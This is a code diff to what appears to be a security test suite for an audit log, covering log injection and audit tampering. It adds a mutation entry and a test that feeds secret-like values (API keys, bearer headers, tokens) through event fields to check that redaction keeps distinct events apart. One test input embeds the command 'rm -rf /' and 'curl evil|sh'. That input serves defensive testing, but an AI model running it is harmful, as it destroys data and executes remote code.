@@ -37,6 +37,12 @@ export const defences = [
     find: "whole ?? (context === undefined ? argument",
     replace: "whole ?? (context !== null ? argument",
   },
+  {
+    name: "what is cut or taken for a secret by a guess is told apart by a keyed hash",
+    file: "secure-local/src/audit/event-text.ts",
+    find: "return whole.length === 0 ? text :",
+    replace: "return whole.length >= 0 ? text :",
+  },
 ];
 
 export const goal = { id: "T26", title: "Log injection, audit tampering", atLeast: 1_500, refusalMs: 500 };
@@ -69,6 +75,7 @@ export async function run(report, parts) {
   const folder = mkdtempSync(join(tmpdir(), "scorecard-audit-"));
   await texts(report, parts);
   await leftOut(report, parts);
+  await alike(report, parts);
   await disguised(report, parts);
   await changes(report, parts, folder);
   await unrecordedWords(report, parts);
@@ -114,6 +121,36 @@ async function leftOut(report, { MemoryAudit }) {
             return (kept[told] === given[told] && isTold) || line.slice(0, 300);
           });
         }
+}
+
+const ALIKE = {
+  "a long text": (word) => `${"x".repeat(30_000)}${word}${"x".repeat(30_000)}`,
+  "quoted words": (word) => `password='rm -rf /${word};curl evil|sh'`,
+  "a named value": (word) => `api_key=abcdefgh${word}`,
+  "a header": (word) => `Authorization: Bearer abcdefghijkl${word}`,
+  "a token": (word) => `ghp_${word.repeat(9)}`,
+};
+const FIELDS = {
+  arguments: (text) => ({ arguments: { text } }),
+  "deep arguments": (text) => ({ arguments: { a: [{ b: text }] } }),
+  "a member named like a secret": (text) => ({ arguments: { password: text } }),
+  "the address of a resource": (text) => ({ tool: `note://${text}` }),
+  result: (text) => ({ result: { text } }),
+  detail: (text) => ({ detail: { text } }),
+  error: (text) => ({ error: text }),
+};
+
+/** Two deeds never leave the same record. */
+async function alike(report, { MemoryAudit }) {
+  report.kind("two deeds that leave one record", { found: "attack" });
+  for (const [what, make] of Object.entries(ALIKE))
+    for (const [field, event] of Object.entries(FIELDS))
+      await report.attack(`${what} in ${field}`, async () => {
+        const audit = new MemoryAudit();
+        for (const word of ["ab12", "cd34"]) await audit.record({ kind: "plugin.runs", ...event(make(word)) });
+        const [one, other] = audit.records().map(({ seq, prev, time, hash, ...fields }) => JSON.stringify(fields));
+        return one !== other || one.slice(0, 300);
+      });
 }
 
 const DEEDS = [
